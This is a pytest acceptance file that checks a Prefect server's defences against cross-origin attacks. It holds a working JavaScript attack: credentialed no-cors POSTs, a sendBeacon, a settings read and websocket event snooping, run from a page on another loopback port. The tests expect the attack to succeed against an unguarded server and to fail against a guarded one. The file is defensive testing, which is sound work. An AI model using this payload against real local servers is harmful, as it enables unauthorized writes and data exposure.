"""A web page on another port, in a real Chromium, attacks a Prefect server on loopback.

The same page attacks two servers. One is guarded, as `make up` starts it. The other has Prefect's defaults and CORS
origins only: there the attack succeeds, which proves that the attack works.
"""

import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests

from tests.acceptance.test_ui import CHROMIUM, QUIET, sign_in, sync_api
from tests.conftest import copy_project, start_server, stop_server
from tests.orchestration.test_stage import credentials, post, wait_for

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium on the PATH")

ATTACK = """
async api => {
    const found = {read: null, events: 0, opened: 0}
    // A Blob without a type has no content type, so the request needs no preflight.
    const write = (path, body) => fetch(api + path, {
        method: "POST", mode: "no-cors", credentials: "include", body: new Blob([JSON.stringify(body)])
    }).catch(() => null)
    await write("/flows/", {name: "planted"})
    await write("/variables/", {name: "planted", value: "1"})
    navigator.sendBeacon(api + "/flows/", new Blob([JSON.stringify({name: "beacon"})]))
    try {
        found.read = await (await fetch(api + "/admin/settings", {credentials: "include"})).text()
    } catch (error) {}
    const listen = protocols => new Promise(done => {
        const socket = new WebSocket(api.replace("http", "ws") + "/events/out", protocols)
        socket.onopen = () => {
            if (protocols.length) socket.send(JSON.stringify({type: "auth", token: "guess"}))
            socket.send(JSON.stringify({type: "filter", filter: {occurred: {since: "2020-01-01T00:00:00Z"}}}))
        }
        socket.onmessage = message => {
            const kind = JSON.parse(message.data).type
            if (kind === "auth_success") found.opened += 1
            if (kind === "event") found.events += 1
        }
        socket.onclose = done
        setTimeout(() => { socket.close(); done() }, 4000)
    })
    await Promise.all([listen([]), listen(["prefect"])])
    return found
}
"""


class _Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>A page</title>")

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def page() -> Iterator[Any]:
    """A page in a browser, served by another server on loopback."""
    site = ThreadingHTTPServer(("127.0.0.1", 0), _Page)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        tab = browser.new_page()
        tab.goto(f"http://127.0.0.1:{site.server_port}/")
        yield tab
        browser.close()
    site.shutdown()
    site.server_close()


@pytest.fixture
def guarded(tmp_path: Path) -> Iterator[str]:
    project = copy_project(tmp_path / "project")
    yield start_server(project)
    stop_server(project)


@pytest.fixture
def unguarded(tmp_path: Path) -> Iterator[str]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    environment = {name: value for name, value in os.environ.items() if name != "PREFECT_API_URL"}
    environment |= {"PREFECT_HOME": str(tmp_path), "PREFECT_SERVER_CORS_ALLOWED_ORIGINS": f"http://127.0.0.1:{port}"}
    command = [sys.executable, "-m", "prefect", "server", "start", "--host", "127.0.0.1", "--port", str(port)]
    server = subprocess.Popen(
        command, cwd=tmp_path, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    address = f"http://127.0.0.1:{port}/api"
    wait_for(lambda: _responds(address), 180)
    yield address
    server.terminate()
    server.wait(60)


def _responds(address: str) -> bool:
    try:
        return requests.get(f"{address}/health", timeout=3).ok
    except requests.RequestException:
        return False


def start_run(address: str) -> None:
    """Create a run, whose events a websocket shows."""
    flow = post(address, "flows/", {"name": "mine"})["id"]
    run = post(address, "flow_runs/", {"flow_id": flow, "state": {"type": "PENDING"}})["id"]
    post(address, f"flow_runs/{run}/set_state", {"state": {"type": "RUNNING"}})
    events = {"filter": {"occurred": {"since": "2020-01-01T00:00:00Z"}}}
    wait_for(lambda: post(address, "events/filter", events)["total"] > 0)


def planted(address: str) -> set[str]:
    """Names that the page wrote into a server."""
    flows = {one["name"] for one in post(address, "flows/filter")}
    variables = {one["name"] for one in post(address, "variables/filter")}
    return {name for name in flows if name in ("planted", "beacon")} | {f"variable {name}" for name in variables}


@pytest.mark.timeout(600)
def test_a_page_on_another_port_can_use_an_unguarded_server(page: Any, unguarded: str) -> None:
    start_run(unguarded)
    found = page.evaluate(ATTACK, unguarded)
    wait_for(lambda: planted(unguarded) == {"planted", "beacon", "variable planted"})
    assert found["read"] is None  # CORS
    assert found["opened"] == 1
    assert found["events"] > 0
    print(json.dumps(found), sorted(planted(unguarded)))


@pytest.mark.timeout(600)
def test_a_page_on_another_port_cannot_use_a_guarded_server(page: Any, guarded: str) -> None:
    start_run(guarded)
    found = page.evaluate(ATTACK, guarded)
    assert found == {"read": None, "events": 0, "opened": 0}
    assert planted(guarded) == set()
    # With the right auth string but without a CSRF token, a write is rejected too.
    headers = credentials(guarded)
    assert requests.post(f"{guarded}/flows/", json={"name": "x"}, headers=headers, timeout=30).status_code == 403
    assert requests.get(f"{guarded}/admin/settings", timeout=30).status_code == 401
    print(json.dumps(found), sorted(planted(guarded)))


@pytest.mark.timeout(600)
def test_a_new_user_signs_in_with_the_printed_auth_string(page: Any, tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    try:
        address = start_server(project)
        other = page.context.browser.new_page()
        sign_in(other, project, address.removesuffix("/api"))
        other.get_by_role("link", name="Deployments").wait_for()
        assert "login" not in other.url
        other.close()
    finally:
        stop_server(project)
